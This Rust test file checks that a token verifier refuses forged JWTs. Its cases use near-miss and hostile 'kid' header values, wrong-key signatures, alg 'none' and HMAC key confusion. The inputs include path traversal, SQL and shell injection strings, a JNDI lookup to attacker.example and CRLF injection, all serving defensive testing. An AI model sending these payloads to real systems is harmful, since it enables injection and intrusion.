//! `kid`: a name that is looked up and never followed, and never a reason to try another key.

use crate::forge::{ATTACKER_KEY, Draft, LIST_KEY, RENAMED_KEY, RETIRED_KEY, TOKEN_KEY, quoted, thumbprint, x};
use crate::verdict::{Case, bad_signature, jws, no_key};
use token::base64url;

pub(crate) fn cases() -> Vec<Case> {
    let mut cases = names();
    cases.extend(shapes());
    cases.extend(other_keys());
    cases.extend(unfit_entries());
    cases
}

/// Signed by our key, so that trying the keys in turn would accept each.
fn names() -> Vec<Case> {
    let kid = thumbprint(TOKEN_KEY);
    let swapped: String = kid
        .chars()
        .map(|c| if c.is_ascii_lowercase() { c.to_ascii_uppercase() } else { c.to_ascii_lowercase() })
        .collect();
    let near = [
        kid.to_ascii_lowercase(),
        kid.to_ascii_uppercase(),
        swapped,
        format!("{kid} "),
        format!(" {kid}"),
        format!("{kid}\0"),
        format!("{kid}\0.pem"),
        format!("{kid}="),
        format!("{kid}A"),
        kid[..42].to_owned(),
        kid[1..].to_owned(),
        format!("{kid},{kid}"),
        format!("urn:ietf:params:oauth:jwk-thumbprint:sha-256:{kid}"),
        x(TOKEN_KEY),
        thumbprint(ATTACKER_KEY),
        kid.replace('-', "+").replace('_', "/") + "=",
    ];
    let far = [
        "",
        " ",
        "0",
        "null",
        "undefined",
        "NaN",
        "true",
        "*",
        "%",
        ".",
        "default",
        "key",
        "EdDSA",
        "token",
        "../../../../../../dev/null",
        "..\\..\\..\\windows\\win.ini",
        "/dev/null",
        "/proc/sys/kernel/randomize_va_space",
        "file:///dev/null",
        "https://attacker.example/key.pem",
        "' OR '1'='1",
        "x' UNION SELECT 'key';--",
        "$(id)",
        "`id`",
        "| id",
        "; id",
        "${jndi:ldap://attacker.example/a}",
        "{{7*7}}",
        "%00",
        "\0",
        "\r\nX-Injected: 1",
        "__proto__",
        "constructor",
        "prototype",
        "toString",
        "hasOwnProperty",
        "length",
        "0.x",
    ];
    let mut cases: Vec<Case> = near
        .into_iter()
        .chain(far.map(str::to_owned))
        .map(|kid| {
            let token = Draft::new().header("kid", &quoted(&kid)).token();
            Case::new(format!("kid {kid:?} is no key of ours"), token, no_key())
        })
        .collect();
    for length in [256, 257, 4096] {
        let token = Draft::new().header("kid", &quoted(&"k".repeat(length))).token();
        cases.push(Case::new(format!("a kid of {length} bytes is no key of ours"), token, no_key()));
    }
    cases
}

fn shapes() -> Vec<Case> {
    let kid = quoted(&thumbprint(TOKEN_KEY));
    let mut cases: Vec<Case> = [
        ("null", "null".to_owned()),
        ("false", "false".to_owned()),
        ("0", "0".to_owned()),
        ("an empty array", "[]".to_owned()),
        ("an array of our key", format!("[{kid}]")),
        ("an object", format!(r#"{{"kid":{kid}}}"#)),
    ]
    .into_iter()
    .map(|(name, value)| {
        Case::new(format!("kid as {name} is refused"), Draft::new().header("kid", &value).token(), jws("kid"))
    })
    .collect();
    let twice = format!(r#"{{"alg":"EdDSA","typ":"at+jwt","kid":"x","kid":{kid}}}"#);
    cases.extend([
        Case::new(
            "a token without kid is refused though there is only one key",
            Draft::new().without_header("kid").token(),
            no_key(),
        )
        .keys("both names"),
        Case::new("a token without kid is refused", Draft::new().without_header("kid").token(), no_key()),
        Case::new(
            "kid among the claims is no kid",
            Draft::new().without_header("kid").claim("kid", &kid).token(),
            no_key(),
        ),
        Case::new("kid given twice is refused", Draft::new().header_bytes(twice).token(), jws("duplicate_member")),
    ]);
    cases
}

fn other_keys() -> Vec<Case> {
    let named = |kid: u8, signer: u8| Draft::new().of_key(kid).signed_by(signer).token();
    vec![
        Case::new("a key nobody publishes is refused", named(ATTACKER_KEY, ATTACKER_KEY), no_key()),
        Case::new("a token of one key that names another is refused", named(RETIRED_KEY, TOKEN_KEY), bad_signature()),
        Case::new(
            "a token of a retired key that names the new one is refused",
            named(TOKEN_KEY, RETIRED_KEY),
            bad_signature(),
        ),
        Case::new("the key for lists under the name of ours is refused", named(TOKEN_KEY, LIST_KEY), bad_signature()),
        Case::new("our token under the name of the key for lists is refused", named(LIST_KEY, TOKEN_KEY), no_key()),
        Case::new("a key of another set is refused", named(RENAMED_KEY, RENAMED_KEY), no_key()),
        Case::new("a key that is withdrawn from the set is refused", named(RETIRED_KEY, RETIRED_KEY), no_key())
            .keys("mixed"),
        Case::new("our key is refused by another issuer's set", named(TOKEN_KEY, TOKEN_KEY), no_key())
            .keys("foreign")
            .without_revocations(),
    ]
}

/// Entries of a set that must not verify anything, though the attacker holds the private key of each.
fn unfit_entries() -> Vec<Case> {
    let kids = [
        "empty",
        "rsa",
        "ec",
        "x25519",
        "ed448",
        "no alg",
        "alg HS256",
        "alg eddsa",
        "use enc",
        "purpose other",
        "key_ops sign",
    ];
    let mut cases: Vec<Case> = kids
        .into_iter()
        .map(|kid| {
            let token = Draft::new().header("kid", &quoted(kid)).signed_by(ATTACKER_KEY).token();
            Case::new(format!("the entry {kid:?} of a mixed set verifies nothing"), token, no_key()).keys("mixed")
        })
        .collect();
    let unsigned = Draft::new().header("kid", "\"no alg\"").header("alg", "\"none\"");
    cases.push(
        Case::new(
            "an entry without alg allows no other algorithm",
            unsigned.with_signature(&[]),
            crate::verdict::algorithm(),
        )
        .keys("mixed"),
    );
    let mac = base64url::decode(x(TOKEN_KEY).as_bytes()).unwrap();
    let confused = Draft::new();
    let mac = crate::forge::hmac_sha256(&mac, confused.signing_input().as_bytes());
    cases.push(
        Case::new("a MAC by a secret of the set is no signature", confused.with_signature(&mac), bad_signature())
            .keys("mixed"),
    );
    cases
}
